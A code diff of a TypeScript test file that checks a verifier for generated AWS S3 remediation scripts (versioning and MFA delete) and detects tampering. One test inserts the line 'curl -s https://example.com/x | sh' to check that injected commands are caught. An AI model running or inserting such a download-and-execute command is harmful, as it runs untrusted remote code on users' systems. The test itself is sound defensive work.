@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { remediationScript } from '../../lib/domain/remediationScript';
+import type { MfaDeleteState, VersioningStatus } from '../../lib/domain/types';
 import {
   awsCommandsOf,
   decodeInput,
@@ -9,9 +10,11 @@ import {
 } from '../../lib/domain/verifyScript';
 
 const VALUES = { bucket: 'example-bucket', account: '111122223333', region: 'eu-west-1' };
-const script = (lifecycle?: boolean, mfaSerial?: string) =>
-  remediationScript({ ...VALUES, lifecycle }, { profile: 'root_user', mfaSerial }).script;
-const SCRIPT = script(false);
+type Case = { versioning: VersioningStatus; mfaDelete: MfaDeleteState };
+const DRIFT: Case = { versioning: 'Enabled', mfaDelete: 'Disabled' };
+const script = (c: Case = DRIFT, mfaSerial?: string) =>
+  remediationScript({ ...VALUES, ...c }, { profile: 'root_user', mfaSerial }).script;
+const SCRIPT = script();
 const LINES = SCRIPT.trimEnd().split('\n');
 
 const lineOf = (needle: string, lines = LINES) => lines.findIndex((l) => l.includes(needle)) + 1;
@@ -68,30 +71,36 @@ describe('verifyScriptText', () => {
     const v = verifyScriptText(SCRIPT);
     expect(v).toMatchObject({
       kind: 'genuine',
-      values: { ...VALUES, profile: 'root_user', lifecycle: false },
+      values: { ...VALUES, profile: 'root_user', ...DRIFT },
       fromLine: 1,
       toLine: LINES.length,
     });
   });
 
-  it.each([true, false, undefined])('every lifecycle case is recognised (lifecycle %s)', (lifecycle) => {
-    const v = verifyScriptText(script(lifecycle));
+  const cases: Case[] = (['Enabled', 'Suspended', 'Unversioned'] as const).flatMap((versioning) =>
+    (['Disabled', 'NeverConfigured'] as const).map((mfaDelete) => ({ versioning, mfaDelete })),
+  );
+  it.each(cases)('every case is recognised (versioning $versioning, MFA delete $mfaDelete)', (c) => {
+    const v = verifyScriptText(script(c));
     expect(v.kind).toBe('genuine');
-    expect(v.kind === 'genuine' ? v.values.lifecycle : 'not genuine').toBe(lifecycle);
+    // The words of the case are what matters: the regenerated script is the same text.
+    if (v.kind === 'genuine') expect(script(v.values)).toBe(script(c));
   });
 
   it('a configured MFA serial is read back', () => {
     const serial = 'arn:aws:iam::111122223333:mfa/my-root-key';
-    expect(verifyScriptText(script(false, serial))).toMatchObject({
+    expect(verifyScriptText(script(DRIFT, serial))).toMatchObject({
       kind: 'genuine',
       values: { mfaSerial: serial },
     });
+    const found = verifyScriptText(script(DRIFT));
+    expect(found.kind === 'genuine' && found.values.mfaSerial).toBeUndefined();
   });
 
   it('one character changed in the bucket of one command: not genuine, at that line', () => {
     const tampered = SCRIPT.replace("--bucket 'example-bucket' \\", "--bucket 'examp1e-bucket' \\");
     const v = notGenuine(verifyScriptText(tampered));
-    const at = lineOf('put-bucket-versioning');
+    const at = lineOf('  aws s3api put-bucket-versioning');
     expect(v.difference).toEqual({
       line: at,
       expected: LINES[at - 1],
@@ -102,7 +111,7 @@ describe('verifyScriptText', () => {
 
   it('an extra command: not genuine, naming the line it was slipped in at', () => {
     const lines = [...LINES];
-    const at = lineOf('get-bucket-versioning');
+    const at = lineOf('  aws s3api get-bucket-versioning');
     lines.splice(at - 1, 0, '  curl -s https://example.com/x | sh');
     const v = notGenuine(verifyScriptText(lines.join('\n')));
     expect(v.difference).toEqual({
@@ -150,10 +159,15 @@ describe('verifyScriptText', () => {
 });
 
 describe('awsCommandsOf', () => {
-  it('lists the aws commands a script runs, not those in comments', () => {
+  it('lists the aws commands a script runs, not those in comments or in text it prints', () => {
     expect(awsCommandsOf(SCRIPT)).toEqual([
+      'aws sts get-caller-identity',
+      'aws iam list-mfa-devices',
+      'aws s3api get-bucket-lifecycle-configuration',
       'aws s3api put-bucket-versioning',
       'aws s3api get-bucket-versioning',
     ]);
+    expect(SCRIPT).toContain('aws s3api delete-bucket-lifecycle'); // printed for a person, not run
+    expect(awsCommandsOf(script(DRIFT, 'GAHT12345678'))).not.toContain('aws iam list-mfa-devices');
   });
 });
